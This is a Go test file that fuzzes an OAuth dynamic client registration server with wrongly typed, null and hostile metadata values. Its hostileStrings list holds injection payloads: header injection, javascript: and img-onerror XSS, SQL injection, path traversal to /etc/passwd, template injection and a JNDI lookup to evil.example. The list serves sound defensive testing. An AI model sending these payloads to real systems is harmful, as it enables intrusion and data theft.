package metadata_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	dcr "github.com/fosite-contrib/fosite-dcr"
	"github.com/fosite-contrib/fosite-dcr/internal/dcrtest"
)

// wrongTypes are JSON values that a member of a kind can't have.
var wrongTypes = map[string][]string{
	"string":           {`7`, `-1.5`, `1e400`, `true`, `false`, `[]`, `["x"]`, `{}`, `{"a":"b"}`, `[[["x"]]]`},
	"array of strings": {`"https://client.example/cb"`, `""`, `7`, `true`, `{}`, `{"0":"x"}`, `[7]`, `["x",7]`, `[null]`, `["x",null]`, `[true]`, `[["x"]]`, `[{}]`, `[1e999]`},
	"boolean":          {`"true"`, `""`, `0`, `1`, `[]`, `[true]`, `{}`, `1e400`},
	"integer":          {`"7"`, `""`, `true`, `1.5`, `-0.5`, `1e400`, `9223372036854775808`, `123456789012345678901234567890`, `[]`, `[7]`, `{}`},
	"JWK Set":          {`"{}"`, `""`, `7`, `true`, `[]`, `[{"kty":"EC"}]`, `{}`, `{"keys":{}}`, `{"keys":null}`, `{"keys":[7]}`, `{"keys":["x"]}`, `{"keys":[null]}`, `{"keys":[[]]}`},
}

// hostileStrings are strings that somebody might regret to have stored.
func hostileStrings() []string {
	return []string{
		"", " ", "\x00", "a\x00b", "\r\nSet-Cookie: a=b", "\x1b[2J", "\x7f", "\u0085", "\u202eabc", "\u2066a\u2069", "\u2028", "\ufeff", "\ufffd", "é́́",
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example",
		"https://user:pass@client.example/", "https://127.0.0.1/", "https://[::1]/", "https://client.example/#", "https://client.example/%zz", "http://client.example/",
		"https://client.example/x", "*", "photos.*", "none", "RS256", "code", "null", "true", "0", "-1", "NaN", "../../etc/passwd", "%00", "%s%n", "' OR 1=1 --",
		"<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example}", `\`, `"`, `"}`, strings.Repeat("a", 2_000), strings.Repeat("é", 5_000), strings.Repeat("a", 100_000),
		strings.Repeat("https://client.example/", 1_000),
	}
}

// hostileValues are JSON values of every kind, right and wrong.
func hostileValues(t *testing.T) []string {
	t.Helper()
	values := []string{
		`0`, `-0`, `-1`, `1`, `3600`, `9223372036854775807`, `-9223372036854775808`, `9223372036854775808`, `1e400`, `1E-400`, `0.1`, strings.Repeat("9", 10_000), `true`, `false`,
		`[]`, `[""]`, `{}`, `{"keys":[]}`, `{"keys":[{}]}`, `{"a":{"b":{"c":[{"d":[]}]}}}`, strings.Repeat("[", 29) + strings.Repeat("]", 29), strings.Repeat(`{"a":`, 29) + "1" + strings.Repeat("}", 29),
		`["` + strings.Repeat(`x","`, 9_999) + `x"]`, `[` + strings.Repeat(`"a",`, 9_999) + `"b"]`, `[` + strings.Repeat(`{},`, 9_999) + `{}]`, `{"keys":[` + strings.Repeat(`{"kty":"EC"},`, 9_999) + `{}]}`,
	}
	distinct := make([]string, 10_000)
	for i := range distinct {
		distinct[i] = fmt.Sprint(i)
	}
	for _, value := range []any{distinct, hostileStrings()[:40]} {
		values = append(values, dcrtest.JSONText(t, value))
	}
	for _, text := range hostileStrings() {
		values = append(values, dcrtest.JSONText(t, text), dcrtest.JSONText(t, []string{text}), dcrtest.JSONText(t, []string{"x", text}))
	}
	return values
}

// walker sends one member at a time, by POST or by PUT.
type walker struct {
	server *dcrtest.Server
	client dcrtest.Answer
}

// newWalker starts a server that honours what fosite does, or everything.
func newWalker(t *testing.T, everything bool) *walker {
	t.Helper()
	setup := dcrtest.Setup{Config: dcr.Config{Management: dcr.Management{Token: dcr.RegistrationToken{KeepOnUpdate: true}}, Metadata: dcr.Metadata{Supports: map[string][]string{}}}}
	for _, row := range dcr.Members() {
		if everything && row.Support != "registered" {
			setup.Config.Metadata.Supports[row.Name] = nil
		}
	}
	s := dcrtest.Start(t, setup)
	return &walker{s, s.Register(t, dcrtest.PlainRegistration)}
}

// send sends a registration that has the member, and nothing else that is special.
func (w *walker) send(t *testing.T, method, name, value string) dcrtest.Answer {
	t.Helper()
	body := fmt.Sprintf("{%q:%s", name, value)
	if name != "redirect_uris" {
		body += `,"redirect_uris":["https://client.example/cb"]`
	}
	if method == http.MethodPost {
		return w.server.Post(t, body+"}")
	}
	return w.server.Manage(t, method, w.client, fmt.Sprintf("%s,\"client_id\":%q}", body, w.client.ID()))
}

// eachMember runs a check for each row of the table, on each server, by each method.
func eachMember(t *testing.T, prefix string, check func(t *testing.T, w *walker, method string, row dcr.Member)) {
	t.Helper()
	for server, everything := range map[string]bool{"plain": false, "everything": true} {
		for _, method := range []string{http.MethodPost, http.MethodPut} {
			for _, row := range dcr.Members() {
				t.Run(strings.Join([]string{prefix, server, method, row.Name}, "/"), func(t *testing.T) {
					t.Parallel()
					check(t, newWalker(t, everything), method, row)
				})
			}
		}
	}
}

func codeOf(name string) string {
	if name == "redirect_uris" {
		return dcrtest.BadRedirect
	}
	return dcrtest.BadMetadata
}

func success(method string) int {
	if method == http.MethodPost {
		return http.StatusCreated
	}
	return http.StatusOK
}

// said are the members of an answer that the metadata decides.
func said(answer dcrtest.Answer) map[string]any {
	rest := map[string]any{}
	for name, value := range answer.Members {
		if !dcrtest.ServerMember(name) {
			rest[name] = value
		}
	}
	return rest
}

func TestMembersOfWrongType(t *testing.T) {
	t.Parallel()
	eachMember(t, "7591-3.1-07", func(t *testing.T, w *walker, method string, row dcr.Member) {
		names := []string{row.Name}
		if row.Tagged {
			names = append(names, row.Name+"#fr")
		}
		require.NotEmpty(t, wrongTypes[row.Type], row.Type)
		before := w.server.Manage(t, http.MethodGet, w.client, nil)
		for _, name := range names {
			for _, value := range wrongTypes[row.Type] {
				answer := w.send(t, method, name, value)
				require.Equal(t, http.StatusBadRequest, answer.Status, "%s: %s", value, answer.Body)
				dcrtest.RequireRefusal(t, answer, http.StatusBadRequest, codeOf(row.Name), row.Name)
			}
		}
		require.Equal(t, before.Body, w.server.Manage(t, http.MethodGet, w.client, nil).Body, "7592-2.2-05: a refused update changed something")
	})
}

func TestMembersThatAreNull(t *testing.T) {
	t.Parallel()
	eachMember(t, "7591-3.1-05", func(t *testing.T, w *walker, method string, row dcr.Member) {
		if row.Name == "redirect_uris" {
			dcrtest.RequireRefusal(t, w.send(t, method, row.Name, "null"), http.StatusBadRequest, dcrtest.BadRedirect, row.Name)
			return
		}
		plain := w.send(t, method, "x", "1")
		require.Equal(t, success(method), plain.Status, plain.Body)
		names := []string{row.Name}
		if row.Tagged {
			names = append(names, row.Name+"#fr")
		}
		for _, name := range names {
			answer := w.send(t, method, name, "null")
			require.Equal(t, success(method), answer.Status, answer.Body)
			require.Equal(t, said(plain), said(answer))
		}
	})
}

func TestMembersOfHostileValue(t *testing.T) {
	t.Parallel()
	values := hostileValues(t)
	eachMember(t, "HTTP-05/T09/T17/T44", func(t *testing.T, w *walker, method string, row dcr.Member) {
		plain := said(w.send(t, method, "x", "1"))
		taken := 0
		for _, value := range values {
			if requireTamed(t, row, value, method, w.send(t, method, row.Name, value), plain) {
				taken++
			}
		}
		if row.Type == "boolean" || row.Type == "integer" {
			require.NotZero(t, taken, "no value at all is taken")
		}
		ordinary := w.send(t, method, "x", "1")
		require.Equal(t, success(method), ordinary.Status, "the server takes no ordinary client any more: %s", ordinary.Body)
	})
}

// requireTamed: a value is refused by name, or comes back as it was sent, or is left
// out. It reports whether it was taken.
func requireTamed(t *testing.T, row dcr.Member, value, method string, answer dcrtest.Answer, plain map[string]any) bool {
	t.Helper()
	shown := value[:min(len(value), 80)]
	if answer.Status == http.StatusBadRequest {
		dcrtest.RequireRefusal(t, answer, http.StatusBadRequest, codeOf(row.Name), row.Name)
		return false
	}
	require.Equal(t, success(method), answer.Status, "%s: %s", shown, answer.Body)
	dcrtest.RequireJSONNoStore(t, answer)
	var sent any
	require.NoError(t, json.Unmarshal([]byte(value), &sent), shown)
	came, back := said(answer)[row.Name]
	switch {
	case !back, equalSet(came, sent):
		require.LessOrEqual(t, len(answer.Body), 300_000)
		return true
	}
	// What was left out of a list, or fell to the default.
	require.True(t, equalSet(came, plain[row.Name]) || isPart(came, sent), "%s came back as %v", shown, came)
	return true
}

// equalSet compares JSON values, lists without regard to repeated elements and
// numbers by value.
func equalSet(a, b any) bool {
	left, ok := a.([]any)
	right, also := b.([]any)
	if !ok || !also {
		number, isNumber := a.(float64)
		other, isOther := b.(float64)
		return isNumber && isOther && number == other || fmt.Sprint(a) == fmt.Sprint(b)
	}
	return isPart(left, right) && isPart(right, left)
}

// isPart reports whether each element of a list is one of another list.
func isPart(a, b any) bool {
	part, ok := a.([]any)
	whole, also := b.([]any)
	return ok && also && !slices.ContainsFunc(part, func(x any) bool {
		return !slices.ContainsFunc(whole, func(y any) bool { return fmt.Sprint(x) == fmt.Sprint(y) })
	})
}
